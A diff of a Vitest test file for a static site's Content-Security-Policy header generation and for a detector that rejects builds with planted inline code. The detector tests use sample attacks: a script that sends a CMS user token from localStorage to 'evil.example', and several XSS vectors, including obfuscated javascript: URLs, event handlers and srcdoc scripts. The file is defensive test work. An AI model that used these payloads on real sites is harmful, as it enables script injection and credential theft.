@@ -1,9 +1,10 @@
 import { createHash } from 'node:crypto';
-import { mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, relative } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { headersFor, readHeaderRules } from '../host-rules';
+import { inlineScripts } from '../../src/lib/inline-scripts';
 import {
   COMMON_HEADERS,
   DOCUMENT_HEADERS,
@@ -13,28 +14,34 @@ import {
   REVALIDATE,
   cspFor,
   formEndpointFromEnv,
+  ownScriptsFor,
   writeHeaders,
 } from './headers';
+import { excerpt, foreignCode } from './foreign-code';
 
 /** Netlify's reading of the file: every matching rule's value for the header, joined. */
 const joined = (rules: Awaited<ReturnType<typeof readHeaderRules>>, path: string, name: string) =>
   rules.filter((rule) => rule.forRegExp.test(path)).flatMap((rule) => (rule.values[name] === undefined ? [] : [rule.values[name]]));
 
-const page = (script: string, extra = '') =>
-  `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/><title>t</title></head><body>${extra}<script>${script}</script><script type="module" async="">import "/assets/x.js";</script><script type="application/ld+json">{"@type":"Thing"}</script><script src="/assets/y.js"></script></body></html>`;
+/** Our one inline script, as the layout writes it into every page. */
+const OWN = `<script type="${inlineScripts.speculationRules.type}">${inlineScripts.speculationRules.text}</script>`;
+/** A built page: our inline script, data blocks that never run, an external script, and `extra` in the body. */
+const page = (extra = '') =>
+  `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/><title>t</title>${OWN}</head><body>${extra}<script type="application/json" data-island-props="">{"a":1}</script><script type="application/ld+json">{"@type":"Thing"}</script><script type="module" src="/assets/y.js"></script></body></html>`;
 const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
+const OWN_HASH = sha(inlineScripts.speculationRules.text);
 
-/** A small client build: two pages, an alias-like page, 404.html and a framed document. */
+/** A small client build (`<tmp>/client`, so its nginx files go to `<tmp>/nginx`): two pages, an alias-like page, 404.html and a framed document. */
 function fixture(): string {
-  const dir = mkdtempSync(join(tmpdir(), 'headers-'));
+  const dir = join(mkdtempSync(join(tmpdir(), 'headers-')), 'client');
   const write = (path: string, html: string) => {
     mkdirSync(join(dir, path, '..'), { recursive: true });
     writeFileSync(join(dir, path), html);
   };
-  write('index.html', page('window.home = 1;'));
-  write('tara/index.html', page('window.tara = "é";'));
-  write('defense/rhino/index.html', page('window.rhino = 1;'));
-  write('404.html', page('window.missing = 1;'));
+  write('index.html', page('<h1>Home</h1>'));
+  write('tara/index.html', page('<h1>Tara é</h1>'));
+  write('defense/rhino/index.html', page('<h1>Rhino</h1>'));
+  write('404.html', page('<h1>Not found</h1>'));
   write(
     'scenes/scene.html',
     '<!doctype html><html lang="en"><head><title>s</title><style>body{margin:0}</style></head><body><script src="/scenes/s.js"></script></body></html>',
@@ -52,19 +59,19 @@ function fixture(): string {
 }
 
 describe('headers for a static build', () => {
-  it('allows exactly each page’s own inline scripts by hash and WebAssembly, never inline script in general or eval', async () => {
+  it('allows our own inline script by its hash on every page the layout draws, WebAssembly, and never inline script in general or eval', async () => {
     const dir = fixture();
     await writeHeaders(dir, {});
     const rules = await readHeaderRules(dir);
-    const tara = headersFor(rules, '/tara').get('Content-Security-Policy')!;
-    const scriptSrc = /script-src ([^;]+)/.exec(tara)![1]!.split(' ');
-    expect(scriptSrc).toEqual(["'self'", "'wasm-unsafe-eval'", sha('window.tara = "é";'), sha('import "/assets/x.js";')]);
-    expect(tara).not.toMatch(/'unsafe-eval'|'unsafe-inline'[^;]*;\s*style/);
-    expect(tara).toMatch(/frame-ancestors 'none'/);
-    expect(tara).toMatch(/connect-src 'self';/);
-    expect(headersFor(rules, '/').get('Content-Security-Policy')).toContain(sha('window.home = 1;'));
-    expect(headersFor(rules, '/').get('Content-Security-Policy')).not.toContain(sha('window.tara = "é";'));
-    expect(headersFor(rules, '/defense/rhino').get('Content-Security-Policy')).toContain(sha('window.rhino = 1;'));
+    for (const path of ['/', '/tara', '/defense/rhino', '/404.html']) {
+      const policy = headersFor(rules, path).get('Content-Security-Policy')!;
+      expect(/script-src ([^;]+)/.exec(policy)![1]!.split(' '), path).toEqual(["'self'", "'wasm-unsafe-eval'", OWN_HASH]);
+      expect(policy).not.toMatch(/'unsafe-eval'|'unsafe-inline'[^;]*;\s*style/);
+      expect(policy).toMatch(/connect-src 'self';/);
+    }
+    expect(headersFor(rules, '/tara').get('Content-Security-Policy')).toMatch(/frame-ancestors 'none'/);
+    // A document copied from public/ is not drawn by the layout: it may hold no inline script, and trusts none.
+    expect(/script-src ([^;]+)/.exec(headersFor(rules, '/scenes/scene.html').get('Content-Security-Policy')!)![1]).toBe("'self' 'wasm-unsafe-eval'");
   });
 
   it('lets only our own pages frame a framed document, and no one frame a page', async () => {
@@ -80,9 +87,7 @@ describe('headers for a static build', () => {
     await writeHeaders(dir, { formEndpoint: 'https://forms.example.org/f/abc?x=1' });
     const rules = await readHeaderRules(dir);
     expect(headersFor(rules, '/tara').get('Content-Security-Policy')).toMatch(/connect-src 'self' https:\/\/forms\.example\.org;/);
-    expect(cspFor(page('x'), 'route', { formEndpoint: 'http://127.0.0.1:4325/contact-form' })).toMatch(
-      /connect-src 'self' http:\/\/127\.0\.0\.1:4325;/,
-    );
+    expect(cspFor('route', { formEndpoint: 'http://127.0.0.1:4325/contact-form' })).toMatch(/connect-src 'self' http:\/\/127\.0\.0\.1:4325;/);
   });
 
   it('reads the endpoint from the environment as Vite does', () => {
@@ -139,7 +144,7 @@ describe('headers for a static build', () => {
     const html = readFileSync(join(dir, '404.html'), 'utf8');
     expect(html.match(/http-equiv="Content-Security-Policy"/g)).toHaveLength(1);
     expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<script'));
-    expect(html).toContain(sha('window.missing = 1;').replace(/'/g, '&#x27;').slice(6, 20));
+    expect(html).toContain(OWN_HASH.slice(8, 30));
     expect(html).not.toMatch(/frame-ancestors/);
   });
 
@@ -147,10 +152,71 @@ describe('headers for a static build', () => {
     const dir = fixture();
     await writeHeaders(dir, {});
     const map = readFileSync(join(dir, '..', 'nginx', 'csp-map.conf'), 'utf8');
-    expect(map).toContain(`"/tara/index.html" "${cspFor(page('window.tara = "é";'), 'route')}";`);
+    expect(map).toContain(`"/tara/index.html" "${cspFor('route')}";`);
+    expect(map).toContain(`"/scenes/scene.html" "${cspFor('document')}";`);
     expect(map).toContain('"/index.html" ');
     expect(map).toContain('"/404.html" ');
     expect(readFileSync(join(dir, '..', 'nginx', 'redirects.conf'), 'utf8')).toContain('location = /newsroom { return 301 /news$is_args$args; }');
+  });
+});
+
+describe('code the site did not write', () => {
+  it('refuses a build with an inline script planted in a built page by hand, naming the page and the start of the script, and writes no headers', async () => {
+    const dir = fixture();
+    const planted = `<script>fetch('https://evil.example/steal?t=' + localStorage.getItem('decap-cms-user'))</script>`;
+    mkdirSync(join(dir, 'news', 'launch'), { recursive: true });
+    writeFileSync(join(dir, 'news', 'launch', 'index.html'), page(`<p>Launch</p>${planted}`));
+    const refused = writeHeaders(dir, {});
+    await expect(refused).rejects.toThrow(
+      /news\/launch\/index\.html \(\/news\/launch\): an inline <script> the site's code does not write: "fetch\('https:\/\/evil\.example/,
+    );
+    await expect(refused).rejects.toThrow(/src\/lib\/inline-scripts\.ts/);
+    expect(existsSync(join(dir, '_headers'))).toBe(false);
+    expect(existsSync(join(dir, '..', 'nginx', 'csp-map.conf'))).toBe(false);
+    // The same build without the planted script passes.
+    writeFileSync(join(dir, 'news', 'launch', 'index.html'), page('<p>Launch</p>'));
+    await writeHeaders(dir, {});
+    expect(existsSync(join(dir, '_headers'))).toBe(true);
+  });
+
+  it('finds every kind of code that could run, however it is written, and lets data blocks, external scripts and our own script be', () => {
+    const planted: [string, string][] = [
+      ['<script type="module">import "/assets/x.js";</script>', 'an inline <script type="module">'],
+      ['<script type="text/javascrip">alert(1)</script>', 'an inline <script type="text/javascrip">'],
+      // Our script's type with other text: matched by its exact text, not its type.
+      [`<script type="speculationrules">{"prerender":[{"source":"list","urls":["/evil"]}]}</script>`, 'an inline <script type="speculationrules">'],
+      ['<img src="/x.png" alt="" onerror="alert(1)">', 'an event-handler attribute on <img>: onerror="alert(1)"'],
+      ['<div ONCLICK="alert(1)">x</div>', 'an event-handler attribute on <div>: onclick='],
+      ['<a href="javascript:alert(1)">x</a>', 'a javascript: address on <a>: href="javascript:alert(1)"'],
+      ['<a href=" JaVa&#x53;cript&colon;alert(1)">x</a>', 'a javascript: address on <a>: href="JaVaScript:alert(1)"'],
+      ['<a href="java\tscript:alert(1)">x</a>', 'a javascript: address on <a>'],
+      ['<form action="javascript:void 0"></form>', 'a javascript: address on <form>: action='],
+      ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', 'a javascript: address on <a>: href='],
+      ['<svg><animate attributeName="href" values="/x;javascript:alert(1)"/></svg>', 'a javascript: address on <animate>: values='],
+      ['<template><script>alert(1)</script></template>', 'an inline <script> the site\'s code does not write: "alert(1)"'],
+      ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', 'in <iframe srcdoc>: an inline <script>'],
+    ];
+    for (const [html, expected] of planted) {
+      const found = foreignCode([{ file: 'x/index.html', urlPath: '/x', kind: 'route', html: page(html) }], (built) => ownScriptsFor(built.kind));
+      expect(
+        found.map((f) => f.what),
+        html,
+      ).toHaveLength(1);
+      expect(found[0]!.what, html).toContain(expected);
+    }
+    const clean = page('<a href="/tara">Tara</a><a href="https://example.org/javascript:x">x</a><p title="onboarding">on</p>');
+    expect(foreignCode([{ file: 'x/index.html', urlPath: '/x', kind: 'route', html: clean }], (built) => ownScriptsFor(built.kind))).toEqual([]);
+  });
+
+  it('lets a document copied from public/ hold no inline script, not even ours', () => {
+    const scene = { file: 'scenes/s.html', urlPath: '/scenes/s.html', kind: 'document' as const, html: page() };
+    expect(foreignCode([scene], (built) => ownScriptsFor(built.kind)).map((f) => f.what)).toEqual([
+      expect.stringContaining('an inline <script type="speculationrules">'),
+    ]);
+  });
+
+  it('quotes only the start of a long script, on one line', () => {
+    expect(excerpt(`alert(1);\n${'x'.repeat(200)}`)).toBe(JSON.stringify(`alert(1); ${'x'.repeat(70)}…`));
   });
 });
 
